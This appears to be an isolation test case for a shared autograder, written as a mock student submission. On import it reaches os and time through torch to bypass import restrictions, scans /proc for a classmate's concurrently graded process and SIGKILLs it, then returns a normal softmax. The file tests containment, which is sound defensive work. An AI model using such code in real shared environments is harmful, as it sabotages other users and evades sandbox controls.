"""Attack, run next to _victim.py: looks through /proc for another submission's process (by the
victim's marker) and SIGKILLs it, to fail a classmate graded at the same time. Then it answers.

expect: contained
"""
import torch

os = torch.os
time = torch.sys.modules["time"]
deadline = time.monotonic() + 2.5
killed = False
while not killed and time.monotonic() < deadline:
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/comm") as f:
                name = f.read().strip()
        except OSError:
            continue
        if name == "__VICTIM__":
            try:
                os.kill(int(entry), 9)
                killed = True
                print(f"BREACH: killed another submission (pid {entry})", flush=True)
            except OSError:
                pass
    time.sleep(0.05)


def softmax(X, dim=-1):
    e = (X - X.amax(dim=dim, keepdim=True)).exp()
    return e / e.sum(dim=dim, keepdim=True)
